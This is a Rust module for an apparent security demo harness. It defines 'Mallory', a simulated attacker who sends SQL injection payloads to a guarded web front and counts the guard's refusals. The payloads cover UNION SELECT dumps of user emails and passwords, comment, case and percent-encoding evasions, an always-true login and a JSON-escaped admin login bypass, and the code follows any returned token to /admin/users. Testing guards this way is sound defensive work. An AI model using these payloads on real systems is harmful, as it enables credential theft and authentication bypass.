//! Mallory: a customer with time and a list of tricks.
//!
//! Reads    answers; she follows up on what they give her.
//! Writes   [`Attempt`]s: each trick with everything that came back. What that was worth is counted
//!          in [`Loot`](crate::loot::Loot), from the answers.
//! Errors   none: an attempt that breaks off is an attempt without answers.
//! Misses   blind and timed injection. What her own log-in lets her try is in [`insider`](crate::insider).

use crate::client::{Answer, Ask, Client, Limits};
use crate::percent::{encoded, fully_encoded};
use crate::seeded::Seeded;
use hyper::Method;
use serde_json::{Value, json};
use std::net::{Ipv4Addr, SocketAddr};
use tokio::sync::watch;

/// One way to leave the quotes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    /// `UNION` in the search, written plainly.
    PlainUnion,
    /// `UNION` in the search, with comments for spaces.
    CommentedUnion,
    /// `UNION ALL` in the search, in upper and lower case as the seed falls.
    MixedCaseUnion,
    /// `UNION` in the search, every byte percent-encoded.
    EncodedUnion,
    /// A log-in that is always true.
    Tautology,
    /// A log-in as any administrator, with JSON escapes for the telling characters.
    EscapedLogin,
}

impl Kind {
    /// All of them.
    pub const ALL: [Self; 6] = [
        Self::PlainUnion,
        Self::CommentedUnion,
        Self::MixedCaseUnion,
        Self::EncodedUnion,
        Self::Tautology,
        Self::EscapedLogin,
    ];

    /// In a few words.
    pub fn words(self) -> &'static str {
        match self {
            Self::PlainUnion => "UNION in the search box",
            Self::CommentedUnion => "UNION with comments for spaces",
            Self::MixedCaseUnion => "UNION in rAnDoM case",
            Self::EncodedUnion => "UNION, every byte encoded",
            Self::Tautology => "log-in that is always true",
            Self::EscapedLogin => "log-in hidden in JSON escapes",
        }
    }

    /// The request.
    fn ask(self, seeded: &mut Seeded) -> Ask {
        match self {
            Self::PlainUnion => {
                search(&encoded("' UNION SELECT id, email, 0, password FROM users --"))
            }
            Self::CommentedUnion => {
                search(&encoded("x'/**/UNION/**/SELECT/**/id,email,0,password/**/FROM/**/users--"))
            }
            Self::MixedCaseUnion => search(&encoded(&mixed_case(
                seeded,
                "' union all select id, email, 0, password from users /*",
            ))),
            Self::EncodedUnion => {
                search(&fully_encoded("' UNION SELECT id, email, 0, password FROM users --"))
            }
            Self::Tautology => log_in(&json!("' OR '1'='1' --").to_string()),
            Self::EscapedLogin => {
                log_in(r#""\u0027 \u006f\u0072 role \u003d \u0027admin\u0027 --""#)
            }
        }
    }
}

/// One trick, and everything that came back.
#[derive(Clone, Debug)]
pub struct Attempt {
    /// Which trick.
    pub kind: Kind,
    /// The attack's own answer, if one came.
    pub answer: Option<Answer>,
    /// What the token that it yielded opened: `/me`, then `/admin/users`.
    pub followed: Vec<Answer>,
}

impl Attempt {
    /// The guard's decision, if it refused the attack.
    pub fn refusal(&self) -> Option<String> {
        self.answer.as_ref().and_then(Answer::refusal)
    }

    /// Everything that came back.
    pub fn answers(&self) -> impl Iterator<Item = &Answer> {
        self.answer.iter().chain(&self.followed)
    }
}

/// The attacker.
#[derive(Debug)]
pub struct Mallory {
    seeded: Seeded,
    client: Client,
}

impl Mallory {
    /// Will attack `front` from `source`.
    pub fn new(seeded: Seeded, front: SocketAddr, source: Ipv4Addr) -> Self {
        Self { seeded, client: Client::new(front, source, Limits::DEMO) }
    }

    /// Tries everything once, in an order of her own; counts refusals in `refusals` as they come.
    pub async fn attack(mut self, refusals: &watch::Sender<usize>) -> Vec<Attempt> {
        let mut kinds = Kind::ALL;
        self.seeded.shuffle(&mut kinds);
        let mut attempts = Vec::new();
        for kind in kinds {
            let attempt = self.attempt(kind).await;
            let refused = usize::from(attempt.refusal().is_some());
            refusals.send_modify(|count| *count += refused);
            attempts.push(attempt);
            // Others are about, too.
            tokio::task::yield_now().await;
        }
        attempts
    }

    async fn attempt(&mut self, kind: Kind) -> Attempt {
        let ask = kind.ask(&mut self.seeded);
        let answer = self.client.send(&ask).await.ok();
        let token =
            answer.as_ref().and_then(|it| it.json().get("token")?.as_str().map(str::to_owned));
        let mut followed = Vec::new();
        if let Some(token) = token {
            for target in ["/me", "/admin/users"] {
                followed.extend(self.client.send(&Ask::get(target).bearing(&token)).await);
            }
        }
        Attempt { kind, answer, followed }
    }
}

fn search(query: &str) -> Ask {
    Ask::get(format!("/products?q={query}"))
}

/// The e-mail address is JSON already: escapes in it are to stay.
fn log_in(email: &str) -> Ask {
    let json = format!(r#"{{"email":{email},"password":{}}}"#, Value::from("x"));
    Ask { json: Some(json), ..Ask::with_json(Method::POST, "/login", &Value::Null) }
}

fn mixed_case(seeded: &mut Seeded, text: &str) -> String {
    let turned = |it: char| if seeded.chance(50) { it.to_ascii_uppercase() } else { it };
    text.chars().map(turned).collect()
}
